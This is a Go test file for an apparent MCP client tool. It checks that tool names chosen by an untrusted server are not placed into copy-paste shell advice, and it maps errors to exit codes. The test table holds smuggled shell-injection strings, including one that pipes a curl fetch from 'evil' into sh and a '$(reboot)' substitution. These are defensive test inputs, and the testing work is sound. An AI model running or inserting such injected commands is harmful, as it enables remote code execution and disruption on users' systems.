package connect

import (
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/parley-mcp/parley/app/internal/kit"
	"github.com/parley-mcp/parley/client"
	"github.com/parley-mcp/parley/host"
	"github.com/parley-mcp/parley/policy"
)

// A name that a server chose is not put where a person copies it into a shell,
// unless it cannot do anything there.
func TestAdviceCannotBeACommand(t *testing.T) {
	for name, wanted := range map[string]string{
		"add":                    "--allow 'evil/add'",
		"x'; curl evil | sh; '":  "allow it with --allow",
		"*":                      "allow it with --allow",
		"a?":                     "allow it with --allow",
		"tool with \n newline":   "allow it with --allow",
		"\u0430dd (not ASCII)":   "allow it with --allow",
		"$(reboot)":              "allow it with --allow",
		"back`tick":              "allow it with --allow",
		"name.with-all_of.these": "--allow 'evil/name.with-all_of.these'",
	} {
		text := Explain(&host.ConsentError{Kind: policy.KindTool, Server: "evil", Name: name, Why: "nobody can be asked"})
		if !strings.HasSuffix(text, wanted) {
			t.Errorf("%q: %s", name, text)
		}
	}
}

// What a server did wrong is not called an error of this program.
func TestExitCodes(t *testing.T) {
	for err, want := range map[error]int{
		errors.New("bug"):                       kit.ExitInternal,
		client.ErrMalformed:                     kit.ExitTool,
		client.ErrResultType:                    kit.ExitTool,
		client.ErrPages:                         kit.ExitTool,
		client.ErrOutput:                        kit.ExitTool,
		client.ErrTooManyRounds:                 kit.ExitTool,
		client.ErrInputRefused:                  kit.ExitConsent,
		kit.ErrInterrupted:                      kit.ExitInterrupted,
		&kit.CodeError{Code: 77, Err: io.EOF}:   77,
		kit.Usagef("wrong"):                     kit.ExitUsage,
		&kit.SilentError{Code: kit.ExitConsent}: kit.ExitConsent,
		&host.ServerError{Err: nil}:             kit.ExitUnreachable,
	} {
		if got := ExitCode(fmt.Errorf("doing something: %w", err)); got != want {
			t.Errorf("%v: exit code %d, want %d", err, got, want)
		}
	}
}

// A run that ends by a budget or by an error of the model ends the program with the code of
// errors within, and the words of the error.
func TestRunErrors(t *testing.T) {
	t.Parallel()
	for _, err := range []error{&host.BudgetError{What: "steps", Limit: "3 steps"}, errors.New("the model is overloaded")} {
		wrapped := fmt.Errorf("run: %w", err)
		if code := ExitCode(wrapped); code != kit.ExitInternal || !strings.Contains(Explain(wrapped), err.Error()) {
			t.Errorf("%v: exit code %d, %q", err, code, Explain(wrapped))
		}
	}
}
